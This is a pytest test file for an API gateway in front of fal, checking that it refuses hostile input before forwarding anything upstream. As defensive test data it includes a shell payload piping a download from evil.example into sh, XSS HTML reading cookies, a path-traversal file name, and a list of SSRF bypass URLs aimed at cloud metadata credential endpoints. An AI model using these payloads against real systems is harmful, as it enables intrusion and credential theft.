"""Hostile input (issue 11, items 12, 13, 17, 19, 21): refused with a fal-shaped 4xx before anything reaches fal.

Every scenario talks to the real gateway under uvicorn in front of the emulator, and reads the emulator's
request log to prove that no upstream call was made.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator

import httpx
import orjson
import pytest

from tests.conftest import Upstream, leak_checked_client
from tests.faults.tally import Tally
from tests.invalid_bodies import TINY_GIF, TINY_PNG, VALID_BODIES, WAN_I2V
from tests.servers import Server, start_gateway

FAMILY = "hostile-input"
PROXY = "/api/fal/proxy"
QUEUE_TARGET = f"https://queue.fal.run/{WAN_I2V}"
INITIATE_TARGET = "https://rest.fal.ai/storage/upload/initiate?storage_type=fal-cdn-v3"
VALID = VALID_BODIES[WAN_I2V]


def _forwarded(upstream: Upstream) -> list[dict]:
    """What reached fal on a caller's behalf; the gateway's own background fetch of fal's JWKS (any gateway
    sharing the session's emulator may refresh it at any time) is not a forwarded call."""
    return [r for r in upstream.requests() if not r["path"].endswith("/.well-known/jwks.json")]


def _record(tally: Tally, *responses: httpx.Response) -> None:
    statuses = [r.status_code for r in responses]
    tally.record(FAMILY, undocumented_5xx=tally.undocumented_5xx(statuses))


def _refused(response: httpx.Response, status: int, loc: list[str], error_type: str | None = None) -> None:
    assert response.status_code == status, response.text
    detail = response.json()["detail"]
    assert isinstance(detail, list) and detail, detail
    assert any(err["loc"] == loc and (error_type is None or err["type"] == error_type) for err in detail), detail


def _data_uri(media_type: str, data: bytes) -> str:
    return f"data:{media_type};base64," + base64.b64encode(data).decode()


# --- item 12: duplicate keys --------------------------------------------------------------------------

DUPLICATE_BODIES = {
    "num_frames 500 then 81": b'{"prompt": "a cat", "image_url": "https://example.com/a.png",'
    b' "num_frames": 500, "num_frames": 81}',
    "javascript image_url then a good one": b'{"prompt": "a cat", "image_url": "javascript:alert(1)",'
    b' "image_url": "https://example.com/a.png"}',
    "nested object": b'{"prompt": "a cat", "image_url": "https://example.com/a.png", "x": {"a": 1, "a": 2}}',
}


@pytest.mark.parametrize("raw", DUPLICATE_BODIES.values(), ids=list(DUPLICATE_BODIES))
@pytest.mark.parametrize("door", ["rest", "proxy"])
def test_duplicate_keys_are_422_and_never_forwarded(
    client: httpx.Client, upstream: Upstream, tally: Tally, raw: bytes, door: str
) -> None:
    upstream.clear()
    headers = {"content-type": "application/json"}
    if door == "proxy":
        response = client.post(PROXY, content=raw, headers={**headers, "x-fal-target-url": QUEUE_TARGET})
    else:
        response = client.post(f"/{WAN_I2V}", content=raw, headers=headers)
    _record(tally, response)
    _refused(response, 422, ["body"], "json_duplicate_key")
    assert _forwarded(upstream) == []


def test_fal_receives_the_serialisation_of_what_was_validated(
    client: httpx.Client, upstream: Upstream, tally: Tally
) -> None:
    # Spaced out and with an escaped character: the raw text is not what is forwarded, its parsed value is.
    raw = b'{ "prompt" :  "a \\u0063at",\n  "image_url" : "https://example.com/a.png" ,"seed":  7 }'
    upstream.clear()
    response = client.post(f"/{WAN_I2V}", content=raw, headers={"content-type": "application/json"})
    _record(tally, response)
    assert response.status_code == 200, response.text
    (submit,) = [r for r in upstream.requests() if r["method"] == "POST"]
    assert submit["body_size"] == len(orjson.dumps(json.loads(raw))) < len(raw)


# --- item 13: data: URIs that are not what they claim ------------------------------------------------

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
LYING_DATA_URIS = {
    "png holding html": _data_uri("image/png", HTML),
    "jpeg holding a shell script": _data_uri("image/jpeg", SHELL),
    "png holding a gif": "data:image/png;base64," + TINY_GIF.split(",", 1)[1],
    "webp holding a png": "data:image/webp;base64," + TINY_PNG.split(",", 1)[1],
    "gif holding 3 bytes": _data_uri("image/gif", b"GIF"),
}


@pytest.mark.parametrize("uri", LYING_DATA_URIS.values(), ids=list(LYING_DATA_URIS))
def test_data_uri_must_hold_its_declared_type(client: httpx.Client, upstream: Upstream, tally: Tally, uri: str) -> None:
    upstream.clear()
    response = client.post(f"/{WAN_I2V}", json={**VALID, "image_url": uri})
    _record(tally, response)
    _refused(response, 422, ["body", "image_url"], "image_type_mismatch")
    assert _forwarded(upstream) == []


def test_data_uri_of_the_declared_type_passes(client: httpx.Client, tally: Tally) -> None:
    response = client.post(f"/{WAN_I2V}", json={**VALID, "image_url": TINY_PNG})
    _record(tally, response)
    assert response.status_code == 200, response.text


# --- item 17: the proxy's storage initiate --------------------------------------------------------------

BAD_INITIATES = {
    "html": (INITIATE_TARGET, {"content_type": "text/html", "file_name": "x.html"}, ["body", "content_type"]),
    "svg": (INITIATE_TARGET, {"content_type": "image/svg+xml", "file_name": "x.svg"}, ["body", "content_type"]),
    "no content type": (INITIATE_TARGET, {"file_name": "x.png"}, ["body", "content_type"]),
    "not an object": (INITIATE_TARGET, ["image/png"], ["body"]),
    "repeated key": (INITIATE_TARGET, b'{"content_type": "image/png", "content_type": "text/html"}', ["body"]),
    "file name not a string": (INITIATE_TARGET, {"content_type": "image/png", "file_name": 7}, ["body", "file_name"]),
    "storage type": (
        INITIATE_TARGET.replace("fal-cdn-v3", "gcs"),
        {"content_type": "image/png", "file_name": "x.png"},
        ["query", "storage_type"],
    ),
}


@pytest.mark.parametrize("case", BAD_INITIATES.values(), ids=list(BAD_INITIATES))
def test_initiate_outside_the_upload_policy_is_422(
    client: httpx.Client, upstream: Upstream, tally: Tally, case: tuple
) -> None:
    target, body, loc = case
    upstream.clear()
    content = body if isinstance(body, bytes) else orjson.dumps(body)
    headers = {"x-fal-target-url": target, "content-type": "application/json"}
    response = client.post(PROXY, content=content, headers=headers)
    _record(tally, response)
    _refused(response, 422, loc)
    assert _forwarded(upstream) == []


def test_initiate_forwards_only_the_checked_fields(client: httpx.Client, emulator: Server, tally: Tally) -> None:
    body = {"content_type": "image/png", "file_name": "../../etc/<b>cat.png", "acl": "public-read"}
    response = client.post(PROXY, json=body, headers={"x-fal-target-url": INITIATE_TARGET})
    _record(tally, response)
    assert response.status_code == 200, response.text
    assert response.json()["file_url"].endswith("/b_cat.png")


# --- item 19: file URLs aimed at private networks ---------------------------------------------------------

PRIVATE_URLS = {
    "metadata": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "private 10/8": "http://10.0.0.1/a.png",
    "private 192.168": "https://192.168.1.1/a.png",
    "loopback": "http://127.0.0.1/a.png",
    "localhost": "http://localhost/a.png",
    "localhost trailing dot": "http://LOCALHOST./a.png",
    "sub.localhost": "http://x.localhost/a.png",
    "metadata name": "http://metadata.google.internal/computeMetadata/v1/",
    "hex": "http://0x7f000001/a.png",
    "dotted hex": "http://0x7f.0x0.0x0.0x1/a.png",
    "octal": "http://0177.0.0.1/a.png",
    "decimal": "http://2130706433/a.png",
    "short form": "http://127.1/a.png",
    "hex metadata": "http://0xa9fea9fe/a.png",
    "ipv6 loopback": "http://[::1]/a.png",
    "ipv6 mapped": "http://[::ffff:127.0.0.1]/a.png",
    "ipv6 mapped hex": "http://[::ffff:7f00:1]/a.png",
    "ipv6 link-local with zone": "http://[fe80::1%25eth0]/a.png",
    "unspecified": "http://0.0.0.0/a.png",
    "fullwidth digits": "http://１２７.0.0.1/a.png",
    "percent-encoded host": "http://%31%32%37.0.0.1/a.png",
    "userinfo": "https://user@example.com/a.png",
    "userinfo with password": "https://user:pw@example.com/a.png",
    "userinfo hiding the host": "https://example.com@10.0.0.1/a.png",
}


@pytest.mark.parametrize("url", PRIVATE_URLS.values(), ids=list(PRIVATE_URLS))
@pytest.mark.parametrize("field", ["image_url", "end_image_url"])
def test_private_file_urls_are_422(client: httpx.Client, upstream: Upstream, tally: Tally, url: str, field: str) -> None:
    model = "fal-ai/luma-dream-machine/ray-2-flash/image-to-video" if field == "end_image_url" else WAN_I2V
    upstream.clear()
    response = client.post(f"/{model}", json={**VALID_BODIES[model], field: url})
    _record(tally, response)
    _refused(response, 422, ["body", field], "url_host")
    assert _forwarded(upstream) == []


@pytest.mark.parametrize(
    "url", ["https://example.com/a.png", "https://8.8.8.8/a.png", "https://[2606:4700::1111]/a.png", "https://123.example.com/"]
)
def test_public_file_urls_pass(client: httpx.Client, tally: Tally, url: str) -> None:
    response = client.post(f"/{WAN_I2V}", json={**VALID, "image_url": url})
    _record(tally, response)
    assert response.status_code == 200, response.text


def test_the_upstreams_own_file_urls_pass(client: httpx.Client, emulator: Server, tally: Tally) -> None:
    # The emulator (fal in tests and demos) hands out http://127.0.0.1:<port>/... file URLs: those are fal's.
    response = client.post(f"/{WAN_I2V}", json={**VALID, "image_url": f"{emulator.url}/files/abc/cat.png"})
    _record(tally, response)
    assert response.status_code == 200, response.text
    other_port = client.post(f"/{WAN_I2V}", json={**VALID, "image_url": "http://127.0.0.1:1/cat.png"})
    _record(tally, other_port)
    _refused(other_port, 422, ["body", "image_url"], "url_host")


@pytest.fixture(scope="module")
def permissive(emulator: Server) -> Iterator[httpx.Client]:
    server = start_gateway(emulator, FALGATE_ALLOW_PRIVATE_FILE_URLS="true")
    try:
        with leak_checked_client(server.url) as http:
            yield http
    finally:
        server.stop()


@pytest.mark.parametrize("url", ["http://10.0.0.1/a.png", "http://localhost:9000/a.png", "http://u@127.1/a.png"])
def test_the_setting_allows_private_file_urls(permissive: httpx.Client, tally: Tally, url: str) -> None:
    response = permissive.post(f"/{WAN_I2V}", json={**VALID, "image_url": url})
    _record(tally, response)
    assert response.status_code == 200, response.text


# --- item 21: upload noise -----------------------------------------------------------------------------

NOISE = ("GeneratorExit", "cancel scope", "Traceback", "Exception ignored")


def test_upload_prints_no_tracebacks(client: httpx.Client, gateway: Server, tally: Tally) -> None:
    png = base64.b64decode(TINY_PNG.split(",", 1)[1])
    before = len(gateway.lines)
    responses = [client.post("/v1/storage/upload", files={"file": (f"{i}.png", png, "image/png")}) for i in range(3)]
    _record(tally, *responses)
    assert all(r.status_code == 200 for r in responses), [r.text for r in responses]
    time.sleep(1.0)  # what the garbage collector would print comes after the answer
    printed = "".join(gateway.lines[before:])
    assert not any(word in printed for word in NOISE), printed


def test_embedded_emulator_file_urls_pass_on_a_private_public_url(tally: Tally) -> None:
    # A LAN demo: the embedded emulator hands out file URLs under FALGATE_PUBLIC_URL, a private address.
    server = start_gateway(None, FALGATE_UPSTREAM="emulator", FALGATE_PUBLIC_URL="http://10.1.2.3:8000")
    try:
        with leak_checked_client(server.url) as http:
            own = http.post(f"/{WAN_I2V}", json={**VALID, "image_url": "http://10.1.2.3:8000/emulator/files/a/b.png"})
            other = http.post(f"/{WAN_I2V}", json={**VALID, "image_url": "http://10.1.2.3:9/b.png"})
    finally:
        server.stop()
    _record(tally, own, other)
    assert own.status_code == 200, own.text
    _refused(other, 422, ["body", "image_url"], "url_host")
